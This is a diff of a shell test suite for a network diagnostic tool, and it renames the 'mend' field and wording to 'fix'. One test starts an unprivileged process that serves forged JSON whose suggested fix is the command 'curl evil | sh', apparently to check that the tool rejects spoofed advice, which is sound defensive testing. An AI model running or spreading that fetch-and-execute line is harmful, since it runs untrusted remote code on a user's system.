@@ -46,7 +46,7 @@ pair 2
 check "a program with a live view starts" program adaptive va,queues=1
 compared() { view "$NAME" --json; [ "$(field "$TMP/view" samples)" -ge "$1" ]; }
 check "five samples are compared" within 30 compared 5
-# (what the hypervisor, other programs and other devices take of the CPU is for others to mend)
+# (what the hypervisor, other programs and other devices take of the CPU is for others to fix)
 OTHERS='stolen|preempted|softirq|hardirq|steal|slow_clock|irq_here'
 quiet() {
 	view "$NAME"
@@ -123,8 +123,8 @@ load() { # frames for both queues of va
 }
 check "load on both queues begins" load
 check "frames on a queue without a socket are found" within 20 found unserved
-told() { view "$NAME"; [ $? = 1 ] && grep -q '^FOUND    va queue 1: unserved' "$TMP/view" && grep -q 'mend: .*queues=2' "$TMP/view" && warned unserved; }
-check "they are told with queue and mend, in the log too, exit code 1" told
+told() { view "$NAME"; [ $? = 1 ] && grep -q '^FOUND    va queue 1: unserved' "$TMP/view" && grep -q 'fix: .*queues=2' "$TMP/view" && warned unserved; }
+check "they are told with queue and fix, in the log too, exit code 1" told
 check "load ends" end "$LOAD"
 check "and so does the finding" within 20 not_found unserved
 check "which is told" within 20 over unserved
@@ -197,7 +197,7 @@ squat() {
 	start squat a python3 -c 'import os, select, socket, sys
 os.setgroups([]); os.setgid(65534); os.setuid(65534)
 lie = b"""{"schema": 1, "name": "x", "live_name": "x", "pid": 1, "samples": 9, "lcores": [], "ports": [], "pools": [],
-"answered_by": {"uid": 0}, "findings": [{"name": "slow_clock", "on": "lcore 0", "evidence": "e", "seconds": 9, "mend": "curl evil | sh"}]}\n"""
+"answered_by": {"uid": 0}, "findings": [{"name": "slow_clock", "on": "lcore 0", "evidence": "e", "seconds": 9, "fix": "curl evil | sh"}]}\n"""
 held = []
 for i in range(int(sys.argv[2])):
     s = socket.socket(socket.AF_UNIX)
@@ -354,10 +354,10 @@ check "the program ends" end "$FWD_PID"
 # ---- another name, and gone ----
 
 check "a program with two ports starts" program adaptive va n,driver=loop
-renamed() { view "$NAME"; grep -q 'mend: have --iface name it vx from the next start on; or ip link set dev vx name va' "$TMP/view" && warned renamed; }
+renamed() { view "$NAME"; grep -q 'fix: have --iface name it vx from the next start on; or ip link set dev vx name va' "$TMP/view" && warned renamed; }
 if at a ip link set dev va name vx 2>"$TMP/rename"; then
 	check "the interface got another name: that is found" within 20 found renamed
-	check "and told, with the command that mends it" renamed
+	check "and told, with the command that fixes it" renamed
 	check "which does" at a ip link set dev vx name va
 	check "and the finding goes" within 20 not_found renamed
 else # before 6.2
